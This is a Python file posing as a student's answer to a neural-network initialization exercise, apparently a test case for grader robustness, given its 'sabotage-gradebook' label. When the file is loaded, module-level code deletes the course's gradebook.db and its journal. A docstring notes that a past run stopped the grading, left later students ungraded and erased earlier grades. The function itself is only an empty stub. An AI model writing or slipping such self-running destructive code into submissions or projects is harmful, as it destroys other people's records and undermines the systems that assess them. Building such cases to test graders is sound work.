"""Deletes the course's gradebook.db (and its journal) while the class is being graded.

assignment: initialization
cell: initialize_parameters_he
target: test_initialize_parameters_he
class: sabotage-gradebook
old: deleted gradebook.db mid-run: nbgrader failed on this submission (MissingEntry), the command stopped (exit 1), the student after it was never graded and the grades before it were gone
"""
import os

_root = os.path.abspath(os.path.join(os.getcwd(), "..", "..", ".."))
for _name in ("gradebook.db", "gradebook.db-journal"):
    try:
        os.remove(os.path.join(_root, _name))
    except OSError as _error:
        print(_error)


def initialize_parameters_he(layers_dims):
    parameters = {}
    L = len(layers_dims) - 1
    for l in range(1, L + 1):
        # YOUR CODE HERE
        raise NotImplementedError()
    return parameters
